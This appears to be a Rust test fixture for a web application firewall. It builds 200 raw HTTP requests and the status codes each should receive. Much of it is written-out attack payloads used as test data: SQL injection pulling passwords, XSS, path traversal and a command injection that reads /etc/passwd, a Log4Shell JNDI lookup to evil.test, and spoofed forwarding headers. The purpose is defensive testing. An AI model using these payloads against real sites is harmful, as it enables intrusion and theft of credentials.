//! Two hundred requests to send to a node, and by way of proxies that ask one.

use std::io::Read;
use std::net::{IpAddr, Ipv4Addr};
use std::path::PathBuf;

use base64::Engine as _;
use serde_json::Value;

/// One request.
pub(crate) struct Case {
    pub(crate) name: String,
    /// The request as it goes over the wire.
    pub(crate) raw: Vec<u8>,
    /// What its verdict hangs on lies in its body.
    pub(crate) by_body: bool,
    pub(crate) from: From,
    /// What a node answers it itself.
    pub(crate) status: Option<u16>,
}

/// Where a request comes from.
#[derive(Clone, Copy)]
pub(crate) enum From {
    /// An address of the case alone, the same every way.
    Case,
    /// One that is known to policy or banned.
    Address(Ipv4Addr),
    /// An address of the way alone, for what counts.
    Way(u8),
}

pub(crate) const BANNED: Ipv4Addr = Ipv4Addr::new(127, 77, 0, 1);
pub(crate) const ALLOWED: Ipv4Addr = Ipv4Addr::new(127, 77, 0, 2);
/// Banned, and named by strangers only.
pub(crate) const NAMED: Ipv4Addr = Ipv4Addr::new(127, 77, 0, 3);

impl Case {
    fn new(name: &str, raw: impl Into<Vec<u8>>) -> Self {
        Self { name: name.to_owned(), raw: raw.into(), by_body: false, from: From::Case, status: None }
    }

    fn is(self, status: u16) -> Self {
        Self { status: Some(status), ..self }
    }

    fn by_body(self) -> Self {
        Self { by_body: true, ..self }
    }

    fn from(self, from: From) -> Self {
        Self { from, ..self }
    }

    /// Whether its verdict may hang on a field that proxies write over.
    pub(crate) fn is_written_over(&self) -> bool {
        let head = String::from_utf8_lossy(&self.raw).to_ascii_lowercase();
        let names = ["method", "uri", "host", "proto", "for"];
        names.iter().any(|name| head.contains(&format!("\r\nx-forwarded-{name}:")))
    }

    /// The address it comes from on one of the ways.
    pub(crate) fn address(&self, place: usize, way: u8) -> IpAddr {
        let place = u8::try_from(place).unwrap();
        IpAddr::V4(match self.from {
            From::Case => Ipv4Addr::new(127, 1, place / 250, place % 250 + 1),
            From::Address(ip) => ip,
            From::Way(of) => Ipv4Addr::new(127, 2, of, way + 1),
        })
    }
}

/// All cases; the last ones are labelled requests, as many as there is room for, where those are at hand.
pub(crate) fn all() -> Vec<Case> {
    let mut cases = methods();
    cases.extend(targets());
    cases.extend(fields());
    cases.extend(bodies());
    cases.extend(standing());
    let room = CASES - cases.len();
    cases.extend(labelled("attack", room / 2));
    cases.extend(labelled("benign", room - room / 2));
    cases
}

/// How many cases there are.
pub(crate) const CASES: usize = 200;

const ATTACK: &str = "q=%27%20UNION%20SELECT%20password%20FROM%20users%20WHERE%20id%3D1--%20";

fn request(method: &str, target: &str, fields: &str, body: &[u8]) -> Vec<u8> {
    let length = match body.is_empty() {
        true => String::new(),
        false => format!("Content-Length: {}\r\n", body.len()),
    };
    let head = format!(
        "{method} {target} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\
         {fields}{length}Connection: close\r\n\r\n"
    );
    [head.as_bytes(), body].concat()
}

fn methods() -> Vec<Case> {
    let mut cases = Vec::new();
    for method in ["GET", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "PROPFIND"] {
        for (target, status) in [("/", 200), ("/a/b?c=d", 200), (&*format!("/?{ATTACK}"), 403)] {
            let name = format!("{method} {target}");
            cases.push(Case::new(&name, request(method, target, "", b"")).is(status));
        }
    }
    cases
}

fn targets() -> Vec<Case> {
    let harmless = [
        "/a%20b",
        "/%E4%BD%A0%E5%A5%BD",
        "//double//slashes",
        "/a/./b",
        "/a;v=1/b",
        "/a+b?c=d+e",
        "/?a=1&a=2&a=",
        "/?empty",
        "/?",
        "/?a=b%20c%26d",
        "/~user/index.html",
        "/a(b)'c",
        "/?date=2024-01-01T00:00:00%2B01:00",
        "/?name=O%27Brien",
        "/very/deep/path/that/goes/on/and/on/for/a/while/and/then/ends.html?x=y",
    ];
    let attacks = [
        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/?q=<script>alert(1)</script>",
        "/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
        "/?q=1%27%20oR%20%271%27=%271",
        "/?q=1'/**/union/**/select/**/1,2,3--",
        "/?q=%27+UNION+ALL+SELECT+NULL,NULL--",
        "/?q=..%2F..%2F..%2Fetc%2Fpasswd",
        "/?q=;cat%20/etc/passwd",
        "/?q=%24%7Bjndi:ldap://evil.test/a%7D",
        "/?q=%00<script>",
        "/?%3Cscript%3Ealert(1)%3C/script%3E=1",
        "/<script>alert(1)</script>",
        "/?q=%u003cscript%u003ealert(1)",
        "/?a=b&c=d&e=f&q=1%20AND%20SLEEP(5)",
    ];
    let case = |target: &&str| Case::new(target, request("GET", target, "", b""));
    harmless.iter().map(|target| case(target).is(200)).chain(attacks.iter().map(case)).collect()
}

/// Fields by which a client may try to have something else examined than what it asks for, and attacks in fields.
fn fields() -> Vec<Case> {
    let mut cases = Vec::new();
    for spoof in [
        "X-Forwarded-Method: GET",
        "X-Forwarded-Uri: /",
        "X-Forwarded-Host: observed.test",
        "X-Forwarded-Proto: https",
        "X-Forwarded-For: 127.77.0.2",
        "X-Forwarded-For: 127.77.0.3",
        "X-Real-Ip: 127.77.0.2",
        "X-Original-Url: /",
        "X-Rewrite-Url: /",
        "X-Original-Method: GET",
        "Forwarded: for=127.77.0.2;host=observed.test",
        "x-envoy-auth-partial-body: true",
        "x-envoy-original-path: /",
        "X-Forwarded-Port: 443",
    ] {
        let line = format!("{spoof}\r\n");
        cases.push(Case::new(spoof, request("GET", "/a", &line, b"")).is(200));
        let name = format!("{spoof}, and an attack");
        cases.push(Case::new(&name, request("GET", &format!("/?{ATTACK}"), &line, b"")).is(403));
    }
    let forwarded = format!("X-Forwarded-Uri: /?{ATTACK}\r\n");
    cases.push(Case::new("an attack that is only claimed", request("GET", "/a", &forwarded, b"")));
    for field in [
        "Cookie: a=b; session=0123456789abcdef",
        "Cookie: a=<script>alert(1)</script>",
        "Referer: https://shop.test/?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "X-Api-Version: ${jndi:ldap://evil.test/a}",
        "Accept-Language: en-US,en;q=0.9",
        "Authorization: Basic dXNlcjpwYXNz",
        "If-None-Match: \"abc\"",
        "Range: bytes=0-99",
        "Origin: https://elsewhere.test",
        "X-Empty:",
    ] {
        cases.push(Case::new(field, request("GET", "/", &format!("{field}\r\n"), b"")));
    }
    let agent = b"GET / HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: sqlmap/1.7\r\nAccept: */*\r\nConnection: close\r\n\r\n";
    cases.push(Case::new("a scanner", agent));
    cases
}

fn bodies() -> Vec<Case> {
    let post = |name: &str, kind: &str, body: &[u8]| {
        let fields = format!("Content-Type: {kind}\r\n");
        Case::new(name, request("POST", "/a", &fields, body)).by_body()
    };
    let form = "application/x-www-form-urlencoded";
    let parts = |text: &str| {
        format!("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{text}\r\n--b--\r\n").into_bytes()
    };
    let multipart = "multipart/form-data; boundary=b";
    let mut chunked =
        b"POST /a HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: x\r\nAccept: */*\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
            .to_vec();
    chunked.extend_from_slice(format!("{:x}\r\n{ATTACK}\r\n0\r\n\r\n", ATTACK.len()).as_bytes());
    let padding = "x".repeat(1_200_000);
    vec![
        post("a form", form, b"a=b&c=d").is(200),
        post("an attack in a form", form, ATTACK.as_bytes()).is(403),
        post("another in a form", form, b"a=b&q=%3Cscript%3Ealert(1)%3C/script%3E").is(403),
        post("JSON", "application/json", b"{\"a\":[1,2,{\"b\":\"c\"}]}").is(200),
        post(
            "an attack in JSON",
            "application/json",
            b"{\"a\":{\"b\":\"' UNION SELECT password FROM users--\"}}",
        )
        .is(403),
        post("what is no JSON", "application/json", b"{\"a\":"),
        post("a multipart form", multipart, &parts("hello")).is(200),
        post("an attack in a multipart form", multipart, &parts("<script>alert(1)</script>")).is(403),
        post("XML", "application/xml", b"<a><b>c</b></a>").is(200),
        post("an attack in XML", "application/xml", b"<a>' UNION SELECT password FROM users-- </a>"),
        post("bytes", "application/octet-stream", b"\x00\x01\x02' UNION SELECT 1--").is(200),
        post("a body without a type", "text/plain", b"hello").is(200),
        Case::new("an attack in chunks", chunked).by_body().is(403),
        post("JSON beyond what is held", "application/json", format!("{{\"a\":\"{padding}\"}}").as_bytes()),
        Case::new("a POST without a body", request("POST", "/a", "Content-Length: 0\r\n", b"")).is(200),
        Case::new(
            "an attack beside a form",
            request("POST", &format!("/a?{ATTACK}"), &format!("Content-Type: {form}\r\n"), b"a=b"),
        )
        .is(403),
        Case::new(
            "a partial body that is only claimed",
            request(
                "POST",
                "/a",
                &format!("Content-Type: {form}\r\nx-envoy-auth-partial-body: true\r\n"),
                b"a=b",
            ),
        )
        .is(200),
    ]
}

/// Bans, the allow-list, limits and apps.
fn standing() -> Vec<Case> {
    let attack = format!("/?{ATTACK}");
    let mut cases = vec![
        Case::new("banned", request("GET", "/", "", b"")).from(From::Address(BANNED)).is(403),
        Case::new("banned, and posts", request("POST", "/", "Content-Length: 0\r\n", b""))
            .from(From::Address(BANNED))
            .is(403),
        Case::new(
            "banned, and claims another address",
            request("GET", "/", "X-Forwarded-For: 127.77.0.2\r\n", b""),
        )
        .from(From::Address(BANNED))
        .is(403),
        Case::new("banned, and named", request("GET", "/", "", b"")).from(From::Address(NAMED)).is(403),
        Case::new("on the allow-list", request("GET", &attack, "", b"")).from(From::Address(ALLOWED)).is(200),
    ];
    for status in [200, 200, 429] {
        cases.push(Case::new("limited", request("GET", "/limited", "", b"")).from(From::Way(1)).is(status));
    }
    let observed = String::from_utf8(request("GET", &attack, "", b"")).unwrap();
    cases.push(
        Case::new("an app that observes", observed.replace("Host: shop.test", "Host: observed.test")).is(200),
    );
    cases.push(
        Case::new("a host with a port", observed.replace("Host: shop.test", "Host: shop.test:8080")).is(403),
    );
    cases
}

/// Labelled requests, from all over their list.
fn labelled(name: &str, wanted: usize) -> Vec<Case> {
    let Some(shared) = std::env::var_os("PHALANX_SHARED") else {
        assert!(std::env::var_os("CI").is_none(), "CI has no labelled requests");
        eprintln!("skipped: labelled requests, because PHALANX_SHARED is not set");
        return Vec::new();
    };
    let file = std::fs::File::open(PathBuf::from(shared).join(format!("data/{name}.jsonl.gz"))).unwrap();
    let mut text = String::new();
    flate2::read::GzDecoder::new(file).read_to_string(&mut text).unwrap();
    let lines: Vec<_> = text.lines().filter(|line| line.len() < 8_000).collect();
    let chosen = lines.iter().step_by(lines.len() / wanted).take(wanted);
    let case = |line: &&str| {
        let value: Value = serde_json::from_str(line).unwrap();
        let raw =
            base64::engine::general_purpose::STANDARD.decode(value["raw_request_b64"].as_str().unwrap());
        let raw = raw.unwrap();
        let by_body = !raw.ends_with(b"\r\n\r\n");
        Case { by_body, ..Case::new(&format!("{name} {}", value["id"]), raw) }
    };
    chosen.map(case).collect()
}
